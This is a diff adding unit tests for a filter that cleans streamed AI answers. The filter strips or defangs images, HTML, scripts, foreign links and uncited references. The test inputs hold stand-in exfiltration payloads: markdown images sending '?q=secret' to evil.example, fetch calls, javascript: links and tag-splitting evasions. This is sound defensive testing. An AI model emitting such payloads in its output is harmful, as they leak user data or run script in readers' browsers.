@@ -1,0 +1,128 @@
+import { AnswerFilter, filterAnswer } from './output-filter';
+
+const passages = [
+  { text: 'Read https://docs.pellworth.example/api for more, or https://docs.pellworth.example/a_(b)?x=1.' },
+  { text: '请看www.docs.example/start。Page:https://wiki.example/b' },
+  { text: 'Three.' },
+];
+
+describe('filterAnswer', () => {
+  it.each([
+    ['an image', 'Look ![chart](https://evil.example/?q=secret) here', 'Look chart here'],
+    ['an image by reference', '![x][1]\n\n[1]: https://evil.example/a', 'x'],
+    ['an image by a reference defined later', '![a][b] and\n\n[b]: //evil.example "t"\nmore', 'a and\n\n\nmore'],
+    ['an image within a link', '[![chart](https://evil.example/i)](https://evil.example/l)', 'chart'],
+    ['an image that is cut short', 'See ![chart](https://evil.example/x', 'See chart'],
+    ['an image too long to wait for', `![x](data:image/png;base64,${'A'.repeat(5000)}) b`, '! [x] ([link removed]) b'],
+    ['raw HTML', 'Hello <img src="https://evil.example/x"> <b>you</b>', 'Hello  you'],
+    ['a tag with an angle bracket in its quotes', 'a<img alt="x>y" src=z>b', 'ab'],
+    ['a script with its content', 'a<script>fetch("https://evil.example")</script>b', 'ab'],
+    ['a script split by tags', 'a<scr<b>ipt>alert(1)</scr</b>ipt>b', 'ab'],
+    ['an HTML comment', 'a<!-- hidden <b> -->b', 'ab'],
+    ['a tag that appears when another is taken away', '<i<b>mg src=x>', ''],
+    ['a tag that appears when an image is taken away', '<i![](u)mg src=x>', '< img src=x>'],
+    ['an attribute that acts on any element', '<y a="b>c" onclick=go()>', '< y a="b>c" onclick=go()>'],
+    ['an attribute behind a quote sign', '> <y\n> onclick=go()>', '> < y\n> onclick=go()>'],
+    ['a foreign link, keeping its words', 'See [the page](https://evil.example/x).', 'See the page.'],
+    ['a link with brackets in its words', '[a [b] c](https://evil.example)', 'a [b] c'],
+    ['a link to a script', '[x](java\nscript:alert(1)) [y](javascript:alert(1)) [z](&#106;avascript:alert(1))', 'x y z'],
+    ['a link without a scheme', '[x](//evil.example/a) [y](</evil>)', 'x y'],
+    ['a link too long to wait for', `[x](https://evil.example/${'q'.repeat(900)}) b`, '[x] ([link removed]) b'],
+    ['a definition in a quotation', '> [x]: //evil.example', '> [x] : //evil.example'],
+    ['a definition over two lines', '[x]:\n/evil', '[x] :\n/evil'],
+    ['a bare foreign address', 'Go to https://evil.example/?d=1.', 'Go to [link removed].'],
+    ['a foreign address in bold', '**HTTPS://EVIL.EXAMPLE**', '**[link removed]**'],
+    ['an address glued to a word', '1https://evil.example', '1[link removed]'],
+    ['an address joined by a removal', 'ht<b>tps:/![](u)/evil.example', '[link removed]'],
+    ['an address that only begins like one of the documents', 'https://docs.pellworth.example.evil.example', '[link removed]'],
+    ['what is added to an address of the documents', 'https://docs.pellworth.example/api?q=secret', '[link removed]'],
+    [
+      'what is glued to an address of the documents',
+      'https://docs.pellworth.example/api"secret',
+      'https://docs.pellworth.example/api "secret',
+    ],
+    ['an automatic link', '<https://evil.example> <https:evil.example>', '<[link removed]> <[link removed]>'],
+    ['an automatic link of any scheme', '<ms-tool:run>', '< ms-tool:run>'],
+    ['a data address', 'data:text/html,hi', '[link removed]'],
+    ['a citation that was never given', 'a [2][9] b [9], c[7]. d [0]', 'a [2] b, c. d'],
+    ['white space around the answer', '\n [1] a \n', '[1] a'],
+    ['half a character', 'a\ud83d', 'a\ufffd'],
+  ])('removes or disarms %s', (_what, text, expected) => {
+    expect(filterAnswer(text, passages)).toBe(expected);
+  });
+
+  it.each([
+    'if 5 < 6, a < b, x <y and 0<i<10',
+    'Send Authorization: Bearer <access_token>, or <your name> in <docs/readme>.',
+    'for (i=0; i<n; i++) list[i] = c["d"]; Map<String, List<Integer>> m;',
+    'a [draft], see [1] and (see [2]); ["x"] [x] - [ ] task',
+    '&lt;img src=x&gt; and &#60;b&#62;',
+    'https://docs.pellworth.example/api.',
+    '(https://docs.pellworth.example/a_(b)?x=1)',
+    '**https://docs.pellworth.example/api**, "https://docs.pellworth.example/api"',
+    'https://docs.pellworth.example is the host, <https://docs.pellworth.example/api> the page',
+    '请看www.docs.example/start。 Or www.docs.example, and https://wiki.example/b.',
+    'It begins with https:// or www. and ends at hr@pellworth.example!',
+    '# A\n\n- b\n\t- c  d\r\n\n```ts\nconst e = f[g]!;\n```\n\n| h | i |\n😀',
+  ])('keeps %j as it is', (text) => {
+    expect(filterAnswer(text, passages)).toBe(text);
+  });
+
+  it.each([
+    ['several numbers in one bracket', 'a [1, 3] b [2,2]', 'a [1][3] b [2]'],
+    ['a link around a citation', 'a [1](https://evil.example) b [[2]](https://evil.example)', 'a [1] b [2]'],
+    ['a citation behind an exclamation mark', 'Done![1]', 'Done! [1]'],
+    ['a citation at the beginning of a line', 'a\n[1] b\n[9] c', 'a\n [1] b\n c'],
+    ['an index that would be read as a citation', 'a[0] = m[0][1]', 'a[ 0] = m[ 0][ 1]'],
+    ['a call that would be read as a link', 'run[name](event)', 'run[name] (event)'],
+    ['a link into the documents', '[words](https://docs.pellworth.example/api "t")', 'words (https://docs.pellworth.example/api)'],
+    ['a comment that never ends', 'a <!-- b', 'a < !-- b'],
+    ['a tag among prose', 'if a <b then stop, and c> d', 'if a < b then stop, and c> d'],
+  ])('writes %s as text that stays what it is', (_what, text, expected) => {
+    expect(filterAnswer(text, passages)).toBe(expected);
+  });
+});
+
+describe('AnswerFilter', () => {
+  it('keeps a word that turns out to begin an address of an unknown kind, and shows nothing of the address', () => {
+    const filter = new AnswerFilter(passages);
+    expect(['Call', ' gopher', '://evil.example', '/x now'].map((text) => filter.push(text)).join('') + filter.end()).toBe(
+      'Call gopher[link removed] now',
+    );
+  });
+
+  it('shows prose as it comes, but for the space that is being written, and a letter that may begin an address', () => {
+    const filter = new AnswerFilter(passages);
+    const shown = ['Three', ' days', ' [1', '].', ' See', ' [the', ' page](https://evil', '.example)', ' a', ' < b'].map((text) =>
+      filter.push(text),
+    );
+    expect(shown).toEqual(['Three', ' days', '', ' [1].', ' See', '', '', ' the page', ' a', ' <']);
+    expect(filter.end()).toBe(' b');
+  });
+
+  it('shows a character whole, however it is cut', () => {
+    const filter = new AnswerFilter([]);
+    expect([filter.push('a, \ud83d'), filter.push('\ude00'), filter.end()]).toEqual(['a,', ' 😀', '']);
+  });
+
+  it.each(['[', '![', '[a](', '![a](', '<b ', '<b a="', '<!--', '<script>', '<y ', 'https://a', '[x]: ', '[1,', '<i ![[a](<b https://a'])(
+    'waits for the end of %j no longer than 2,000 characters',
+    (opening) => {
+      const filter = new AnswerFilter(passages);
+      filter.push(`Before. ${opening}`);
+      filter.push('z'.repeat(2000));
+      expect(filter.push(' after it.')).toMatch(/ after it/);
+    },
+  );
+
+  // Reading again what is held, for every character, would take minutes.
+  it.each(['[', '<', '![', '[a](x', '<b ', '<i', '<b a="', '<!--', '<y b=', '](', '[1,', '[x]: ', 'https://', 'www.', '.', ' '])(
+    'gets through 100,000 characters of %j, one by one',
+    (opening) => {
+      const text = `${opening.repeat(100_000 / opening.length)}.`;
+      const filter = new AnswerFilter(passages);
+      const shown = text.split('').map((character) => filter.push(character));
+      expect(shown.join('') + filter.end()).toBe(filterAnswer(text, passages));
+    },
+  );
+});
